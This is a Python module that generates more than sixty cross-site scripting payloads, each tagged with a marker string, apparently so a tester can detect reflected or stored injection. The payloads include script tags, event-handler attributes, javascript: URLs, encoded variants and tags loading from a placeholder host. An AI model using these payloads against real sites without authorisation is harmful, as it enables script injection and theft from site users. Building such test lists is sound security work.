"""Markup that would act if it came onto a page as it was typed."""

from __future__ import annotations

MARK = "zq7x"
_BODIES = (
    "<script>{0}(1)</script>",
    "<ScRiPt/src=//{0}>",
    "<img src=x onerror={0}(1)>",
    "<img src=`x`onerror={0}(1)>",
    "<svg onload={0}(1)>",
    "<svg><animate onbegin={0}() attributeName=x>",
    "<body onload={0}()>",
    "<details open ontoggle={0}()>",
    "<a href=javascript:{0}(1)>x</a>",
    "<a href='java&#10;script:{0}(1)'>x</a>",
    "<iframe srcdoc='<b>{0}</b>'></iframe>",
    "<object data=data:,{0}></object>",
    "<form action=//{0}><button>",
    "<base href=//{0}/>",
    "<meta http-equiv=refresh content='0;//{0}'>",
    "<link rel=stylesheet href=//{0}>",
    "<style>@import '//{0}'</style>",
    "<math><mi xlink:href=javascript:{0}()>",
    "<template><i>{0}</i></template>",
    "<!--<b>{0}-->",
    "&lt;b onclick={0}()&gt;",
    "&#60;script&#62;{0}()&#60;/script&#62;",
    "{{{{ {0} }}}}{{% raw %}}",
    "${{{0}}}",
    "\\u003cscript\\u003e{0}()",
)
_OPENERS = ('"', "'", ">", "</textarea>", "</title>", "</script>", "'-{0}-'", '" onfocus={0}() autofocus x="')


PAYLOADS = tuple(
    text.format(MARK) for text in (*_BODIES, *(f"{opener}{body}" for opener in _OPENERS for body in _BODIES[:6]))
)
"""Sixty and more; each holds the mark, by which it is found again as letters or as something that acts."""
